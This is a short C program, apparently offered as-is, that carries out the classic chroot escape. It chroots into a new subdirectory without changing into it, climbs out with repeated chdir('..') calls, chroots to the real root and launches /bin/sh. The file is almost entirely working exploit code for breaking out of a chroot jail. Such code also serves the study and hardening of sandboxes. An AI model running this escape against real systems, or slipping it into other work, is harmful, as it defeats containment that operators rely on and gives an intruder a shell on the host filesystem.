/* The classic chroot escape: chroot into a subdir without chdir, climb out with "..", chroot("."). */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	mkdir("/tmp/escape", 0755);
	if (chroot("/tmp/escape") != 0)
		perror("chroot");
	for (int i = 0; i < 64; i++)
		chdir("..");
	if (chroot(".") != 0)
		perror("chroot .");
	execv("/bin/sh", argv + 1);
	perror("exec");
	return 127;
}
